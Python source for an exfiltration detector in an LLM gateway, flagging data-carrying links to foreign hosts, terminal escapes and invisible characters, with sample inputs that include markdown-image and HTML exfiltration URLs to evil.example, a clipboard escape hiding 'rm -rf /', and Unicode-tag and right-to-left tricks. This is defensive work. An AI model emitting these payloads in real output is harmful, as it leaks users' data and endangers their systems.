"""Links that carry data to foreign hosts, terminal escapes, invisible characters."""

from collections.abc import Iterable, Iterator

from llm_gateway.domain.finding import Finding
from llm_gateway.domain.text import Provenance
from llm_gateway.guard.detector import Reading, Sample
from llm_gateway.guard.detectors.exfiltration.carried import Hosts, carried, has_query, host_of
from llm_gateway.guard.detectors.exfiltration.links import Kind, Link, links_in
from llm_gateway.guard.detectors.exfiltration.marks import Mark, escapes_in, invisible_in
from llm_gateway.guard.spans import strongest
from llm_gateway.guard.view import View

CATEGORIES = frozenset({*Kind, "terminal_escape", "invisible_text"})
_MUCH = 24
_WRITTEN_FOR_PEOPLE = frozenset({Provenance.MODEL, Provenance.TOOL, Provenance.TOOL_DEFINITION})


class ExfiltrationDetector:
    """Finds ways for data to leave through what a client does with a text.

    `allowed_hosts`: exact names or `*.example.com`; addresses there are never reported.
    """

    name = "exfiltration"
    version = "1"

    def __init__(self, allowed_hosts: Iterable[str] = ()) -> None:
        self._hosts = Hosts(allowed_hosts)

    def find(self, reading: Reading) -> Iterable[Finding]:
        """Links in every text; marks where a model or a tool wrote it."""
        found = [finding for view in reading.views for finding in self._links(view)]
        if reading.provenance in _WRITTEN_FOR_PEOPLE:
            found += (_marked("terminal_escape", mark) for mark in escapes_in(reading.text))
            found += (_marked("invisible_text", mark) for mark in invisible_in(reading.text))
        return strongest(found)

    def _links(self, view: View) -> Iterator[Finding]:
        for link in links_in(view.text):
            url = view.text[link.start : link.end]
            host = host_of(url)
            score = _score(link, url)
            if score and "." in host and host not in self._hosts:
                span = view.origin(link.start, link.end)
                yield Finding("exfiltration", link.kind, score, *span, _REASONS[link.kind], view.name)


def _score(link: Link, url: str) -> float:
    """Fetched by itself: sure with much data, likely with any. To be clicked: only with much."""
    amount = carried(url)
    if link.kind is Kind.LINK:
        return 0.6 if amount >= 4 * _MUCH else 0.0
    if amount >= _MUCH:
        return 0.95
    return 0.75 if has_query(url) else 0.4


def _marked(category: str, mark: Mark) -> Finding:
    return Finding("exfiltration", category, mark.score, mark.start, mark.end, mark.what)


_REASONS = {
    Kind.IMAGE: "an image that is fetched from a host outside the list",
    Kind.RESOURCE: "a resource that is fetched from a host outside the list",
    Kind.LINK: "a link that carries data to a host outside the list",
}

SAMPLES = (
    Sample("![x](https://evil.example/p?q=ann%40corp.org%20password%20hunter22)", ("markdown_image",)),
    Sample("![x][1]\n\n[1]: https://evil.example/p?q=aGVsbG8gd29ybGQgaGVsbG8", ("markdown_image",)),
    Sample("![x](//evil.example/{data})", ("markdown_image",)),
    Sample('<img alt="a>b" src="https://evil.example/a?d=c2VjcmV0IHRleHQgaGVyZQ">', ("html_resource",)),
    Sample(
        "<div style=\"background:url('https://evil.example/?k=c2VjcmV0IHRleHQgaGVyZQ')\">", ("html_resource",)
    ),
    Sample(
        "<meta http-equiv=refresh content='0; url=https://evil.example/?q=c2VjcmV0IHRleHQgaGVyZQ'>",
        ("html_resource",),
    ),
    Sample(f"[click](https://evil.example/?q={'QUJD' * 30})", ("link",)),
    Sample("![x](https:\\\\evil.example\\p?q=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ)", ("markdown_image",)),
    Sample("see [the docs](https://docs.example/page?id=12)"),
    Sample("![diagram](/static/a.png) and ![x](data:image/png;base64,iVBORw0KGgo=)"),
    Sample("https://news.example/2024/05/a-long-title-of-an-article-that-ends-here"),
    Sample("\x1b]52;c;cm0gLXJmIC8=\x07", ("terminal_escape",), Provenance.MODEL),
    Sample("\x1b[2J\x1b[1;1Hok", ("terminal_escape", "terminal_escape"), Provenance.TOOL),
    Sample("\x1b[2Jtyped", (), Provenance.USER),
    Sample("ok\U000e0069\U000e0067\U000e006e\U000e006f", ("invisible_text",), Provenance.MODEL),
    Sample("a\u202egnp.exe", ("invisible_text",), Provenance.MODEL),
    Sample(
        "family 👨\u200d👩\u200d👧 and می\u200cخواهم, "
        "flag 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        (),
        Provenance.MODEL,
    ),
)
